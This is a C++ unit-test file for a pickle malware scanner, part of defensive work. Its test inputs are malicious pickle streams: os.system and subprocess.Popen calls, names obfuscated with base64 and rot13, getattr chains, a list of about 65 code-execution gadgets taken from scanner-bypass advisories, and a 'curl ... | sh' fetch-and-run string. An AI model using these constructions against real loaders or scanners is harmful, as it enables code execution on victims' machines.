/// Each way of calling something without seeming to.
#include <gtest/gtest.h>

#include <set>

#include "scan/pickle/assembler_testing.h"
#include "scan/pickle/known.h"
#include "scan/rules.h"

namespace bartizan::scan::pickle {
namespace {

void expect(Verdict expected, const Assembler& stream, std::string_view shown = "") {
    const FileResult result = judge(stream.stop());
    EXPECT_EQ(result.verdict, expected) << details(result);
    EXPECT_NE(details(result).find(shown), std::string::npos) << details(result);
}
void expect_malicious(const Assembler& stream, std::string_view shown) { expect(Verdict::malicious, stream, shown); }

TEST(PickleCalls, DottedNamesAreResolved) {
    expect_malicious(p4().call("pathlib", "os.system", "id"), "os.system('id')");
    expect_malicious(p4().call("random", "_os.system", "id"), "os.system('id')");
    expect_malicious(p4().call("collections", "_sys.modules.get", "os"), "sys.modules.get('os')");
    expect_malicious(p4().call("builtins", "eval.__call__", "1"), "builtins.eval('1')");
    expect_malicious(p4().call("numpy", "__builtins__.get", "eval"), "builtins.get('eval')");
    expect_malicious(p4().call("__builtin__", "eval", "1"), "builtins.eval('1')");
    expect_malicious(p4().global("torch", "nn.Module.__init__.__globals__").empty_tuple().reduce(), "__globals__");
}

TEST(PickleCalls, NamesComputedWhileLoadingAreFollowed) {
    const auto name = [](Assembler& out) -> Assembler& {
        // "".join(["sys", "tem"])
        return out.global("builtins", "str.join").text("").raw("](").text("sys").text("tem").raw("e").tuple2().reduce();
    };
    Assembler joined = p4().text("os");
    expect_malicious(name(joined).raw("\x93").text("id").tuple1().reduce(), "os.system('id')");
    Assembler decoded = p4().text("os").global("base64", "b64decode").text("c3lzdGVt").tuple1().reduce();
    expect_malicious(decoded.raw("\x93").text("id").tuple1().reduce(), "os.system('id')");
    Assembler text = p4().text("os").global("builtins", "str").text("system").tuple1().reduce();
    expect_malicious(text.raw("\x93").text("id").tuple1().reduce(), "os.system('id')");
    Assembler rotated = p4().text("os").global("codecs", "decode").text("flfgrz").text("rot13").tuple2().reduce();
    expect_malicious(rotated.raw("\x93").text("id").tuple1().reduce(), "os.system('id')");
    Assembler unknown = p4().text("os").global("strange", "name").empty_tuple().reduce();
    expect(Verdict::unproven, unknown.raw("\x93").empty_tuple().reduce(), "computed while loading");
}

TEST(PickleCalls, GetattrChainsAreFollowed) {
    Assembler chain = p4().global("builtins", "getattr");
    chain.global("importlib", "import_module").text("os").tuple1().reduce().text("system").tuple2().reduce();
    expect_malicious(chain.text("id").tuple1().reduce(), "os.system('id')");
    Assembler getter = p4().global("operator", "attrgetter").text("system").tuple1().reduce();
    getter.global("builtins", "__import__").text("os").tuple1().reduce().tuple1().reduce();
    expect_malicious(getter.text("id").tuple1().reduce(), "os.system('id')");
    Assembler item = p4().global("operator", "itemgetter").text("os").tuple1().reduce();
    item.global("sys", "modules").tuple1().reduce();
    Assembler call =
        p4().global("builtins", "getattr").raw(item.unfinished().substr(2)).text("system").tuple2().reduce();
    expect_malicious(call.text("id").tuple1().reduce(), "os.system('id')");
}

TEST(PickleCalls, TrampolinesPassTheCallOn) {
    Assembler partial = p4().global("functools", "partial").global("os", "system").text("id").tuple2().reduce();
    expect_malicious(partial.empty_tuple().reduce(), "os.system('id')");
    Assembler caller = p4().global("operator", "methodcaller").text("system").text("id").tuple2().reduce();
    caller.global("builtins", "__import__").text("os").tuple1().reduce();
    expect_malicious(caller.tuple1().reduce(), "os.system('id')");
    Assembler map =
        p4().global("builtins", "map").global("os", "system").raw("](").text("id").raw("e").tuple2().reduce();
    expect_malicious(map, "os.system('id')");
    Assembler typed = p4().global("torch._tensor", "_rebuild_from_type_v2").mark().global("os", "system");
    typed.global("torch", "Tensor").text("id").tuple1().dict().tuple().reduce();
    expect_malicious(typed, "os.system('id')");
    Assembler reconstructor = p4().global("copyreg", "_reconstructor").global("subprocess", "Popen");
    reconstructor.global("builtins", "object").text("id").tuple3().reduce();
    expect_malicious(reconstructor, "subprocess.Popen('id')");
    Assembler factory = p4().global("collections", "defaultdict").global("os", "getcwd").tuple1().reduce();
    expect_malicious(factory, "os.getcwd");
    // partial's BUILD replaces the function.
    Assembler rebuilt = p4().global("functools", "partial").global("builtins", "int").tuple1().reduce();
    rebuilt.mark().global("os", "system").text("id").tuple1().dict().raw("N").tuple().build();
    expect_malicious(rebuilt.empty_tuple().reduce(), "os.system('id')");
}

TEST(PickleCalls, ChangesToForeignObjectsAreSeen) {
    expect_malicious(p4().global("sys", "modules").text("os").text("x").setitem(), "sys.modules['os']");
    expect_malicious(p4().global("numpy", "size").dict().text("__code__").integer(1).setitem().build(), "numpy.size");
    expect_malicious(p4().global("math", "pi").text("x").append(), "math.pi");
    Assembler class_change = p4().global("types", "SimpleNamespace").empty_tuple().reduce().dict();
    class_change.text("__class__").global("collections", "deque").setitem().build();
    expect_malicious(class_change, "__class__");
    Assembler type = p4().global("builtins", "type").text("X").empty_tuple().dict().text("__setitem__");
    expect_malicious(type.global("builtins", "print").setitem().tuple3().reduce(), "__setitem__");
}

TEST(PickleCalls, CallsThatMakeCallsCannotMultiply) {
    // map(map, ...) over 64 values, again and again: 64 to the power of 12 calls.
    Assembler out = p4().raw("](");
    for (int i = 0; i < 64; ++i) out.raw("N");
    out.raw("e\x94");
    out.global("operator", "neg");
    for (int level = 0; level < 12; ++level) {
        const std::string inner = out.unfinished();
        out = Assembler().raw(inner);
        out.raw("q").byte(20);
        out.pop().global("functools", "partial").global("builtins", "map").raw("h").byte(20).get(0).tuple3().reduce();
    }
    const FileResult result = judge(out.empty_tuple().reduce().stop(), {}, {.steps = 100'000});
    EXPECT_EQ(result.verdict, Verdict::incomplete);
}

TEST(PickleCalls, ExtensionsAreResolvedOrNotProven) {
    Assembler registered =
        p4().global("copyreg", "add_extension").text("os").text("system").raw("K\x07").tuple3().reduce();
    expect_malicious(registered.pop().raw("\x82\x07").text("id").tuple1().reduce(), "os.system('id')");
    expect(Verdict::unproven, p4().raw("\x83\x07").byte(0).empty_tuple().reduce(), "extension 7");
}

TEST(PickleCalls, UnknownCallsAreUnprovenUnlessTheirArgumentsTell) {
    expect(Verdict::unproven, p4().call("some_package.models", "Model", "small"), "some_package.models.Model('small')");
    expect_malicious(p4().call("some_package.shell", "run", "curl http://example.com/x | sh"), "curl");
    expect_malicious(p4().call("some_package.tools", "evaluate", "__import__('os').system('id')"), "__import__");
    expect(Verdict::unproven, p4().raw("Pstrange id\n"), "persistent_load('strange id')");
    expect(Verdict::unproven, p4().global("some_package", "THING"), "some_package.THING");
}

TEST(PickleCalls, FunctionsByValueAreUnprovenOrTellWhatTheyName) {
    const auto code = [](std::string_view word) {
        Assembler out = p4().global("cloudpickle.cloudpickle", "_builtin_type").text("CodeType").tuple1().reduce();
        return out.mark().integer(1).bytes("d\1S\0").text(word).tuple1().tuple().reduce();
    };
    expect(Verdict::unproven, code("mean"), "");
    expect_malicious(code("system"), "system");
    Assembler called = p4().global("cloudpickle.cloudpickle", "_make_function").raw("N").tuple1().reduce();
    expect_malicious(called.text("x").tuple1().reduce(), "_make_function(None)('x')");
    expect_malicious(p4().global("types", "CodeType").integer(1).tuple1().reduce(), "types.CodeType(1)");
}

class EveryGadget : public ::testing::TestWithParam<std::pair<const char*, const char*>> {};
TEST_P(EveryGadget, IsMalicious) {
    expect_malicious(p4().call(GetParam().first, GetParam().second, "argument"), "'argument'");
}
/// From the published advisories on pickle scanners: one of each class.
INSTANTIATE_TEST_SUITE_P(
    Pickle, EveryGadget,
    ::testing::Values(
        std::pair{"pip._internal", "main"}, std::pair{"idlelib.pyshell", "ModifiedInterpreter.runcode"},
        std::pair{"asyncio.unix_events", "_UnixSubprocessTransport._start"}, std::pair{"timeit", "timeit"},
        std::pair{"cProfile", "runctx"}, std::pair{"doctest", "debug_script"},
        std::pair{"code", "InteractiveInterpreter"}, std::pair{"ensurepip", "_run_pip"},
        std::pair{"lib2to3.pgen2.grammar", "Grammar.loads"}, std::pair{"numpy.f2py.crackfortran", "getlincoef"},
        std::pair{"numpy.testing._private.utils", "runstring"}, std::pair{"torch.utils.collect_env", "run"},
        std::pair{"torch._dynamo.guards", "GuardBuilder.get"},
        std::pair{"torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"},
        std::pair{"torch.utils._config_module", "ConfigModule.load_config"},
        std::pair{"torch.jit.unsupported_tensor_ops", "execWrapper"}, std::pair{"torch.storage", "_load_from_bytes"},
        std::pair{"torch.hub", "load"}, std::pair{"torch.ops", "load_library"}, std::pair{"pkgutil", "resolve_name"},
        std::pair{"pydoc", "pipepager"}, std::pair{"uuid", "_get_command_stdout"},
        std::pair{"_osx_support", "_read_output"}, std::pair{"imaplib", "IMAP4_stream"},
        std::pair{"_pyrepl.pager", "pipe_pager"}, std::pair{"test.support.script_helper", "assert_python_ok"},
        std::pair{"ctypes", "CDLL"}, std::pair{"marshal", "loads"},
        std::pair{"importlib.machinery", "SourceFileLoader"}, std::pair{"runpy", "run_path"},
        std::pair{"_posixsubprocess", "fork_exec"}, std::pair{"_interpreters", "run_string"},
        std::pair{"site", "addpackage"}, std::pair{"atexit", "register"}, std::pair{"weakref", "finalize"},
        std::pair{"contextlib", "ExitStack"}, std::pair{"contextvars", "Context.run"},
        std::pair{"typing", "get_type_hints"}, std::pair{"dataclasses", "_create_fn"},
        std::pair{"mailcap", "findmatch"}, std::pair{"platform", "_syscmd_file"}, std::pair{"distutils.spawn", "spawn"},
        std::pair{"pathlib", "Path.write_text"}, std::pair{"io", "FileIO"}, std::pair{"logging", "FileHandler"},
        std::pair{"logging.config", "fileConfig"}, std::pair{"linecache", "getlines"},
        std::pair{"ssl", "get_server_certificate"}, std::pair{"smtplib", "SMTP"},
        std::pair{"xmlrpc.client", "ServerProxy"}, std::pair{"pandas", "read_csv"},
        std::pair{"mlflow.projects.backend.local", "_run_entry_point"}, std::pair{"pandas", "read_pickle"},
        std::pair{"joblib", "load"}, std::pair{"dill", "loads"}, std::pair{"yaml", "unsafe_load"},
        std::pair{"click", "edit"}, std::pair{"six.moves", "getoutput"}, std::pair{"IPython", "embed"},
        std::pair{"sympy", "sympify"}, std::pair{"jinja2", "Template"}, std::pair{"faulthandler", "_sigsegv"},
        std::pair{"resource", "setrlimit"}, std::pair{"webbrowser", "open"}, std::pair{"shutil", "rmtree"},
        std::pair{"socket", "create_connection"}));

TEST(PickleKnown, NoNameIsListedAsHarmfulAndInert) {
    // Danger wins, so that an inert entry under the same name would be dead.
    for (const Known& row : known_inert()) {
        std::string_view names = row.names;
        while (!names.empty()) {
            const std::size_t end = std::min(names.find_first_of(" \n"), names.size());
            const std::string_view name = names.substr(0, end);
            if (!name.empty() && !name.ends_with(".*")) EXPECT_NE(look_up(name).stance, Stance::danger) << name;
            names.remove_prefix(std::min(end + 1, names.size()));
        }
    }
}

TEST(PickleKnown, NoInertNameIsListedTwice) {
    std::set<std::string_view> seen;
    for (const Known& row : known_inert()) {
        std::string_view names = row.names;
        while (!names.empty()) {
            const std::size_t end = std::min(names.find_first_of(" \n"), names.size());
            if (end > 0) EXPECT_TRUE(seen.insert(names.substr(0, end)).second) << names.substr(0, end);
            names.remove_prefix(std::min(end + 1, names.size()));
        }
    }
}

TEST(PickleKnown, TheLongestEntryDecides) {
    EXPECT_EQ(look_up("os.system").stance, Stance::danger);
    EXPECT_EQ(look_up("os.stat_result").stance, Stance::inert);
    EXPECT_EQ(look_up("os.path.join").stance, Stance::danger);
    EXPECT_EQ(look_up("osmium.system").stance, Stance::unknown);
    EXPECT_EQ(canonical_name("numpy._core.multiarray", "scalar"), "numpy.core.multiarray.scalar");
    EXPECT_EQ(canonical_name("urllib2", "urlopen"), "urllib.request.urlopen");
    EXPECT_EQ(inner_component("a.__globals__.b"), "__globals__");
    EXPECT_EQ(inner_component("globals"), "");
}

}  // namespace
}  // namespace bartizan::scan::pickle
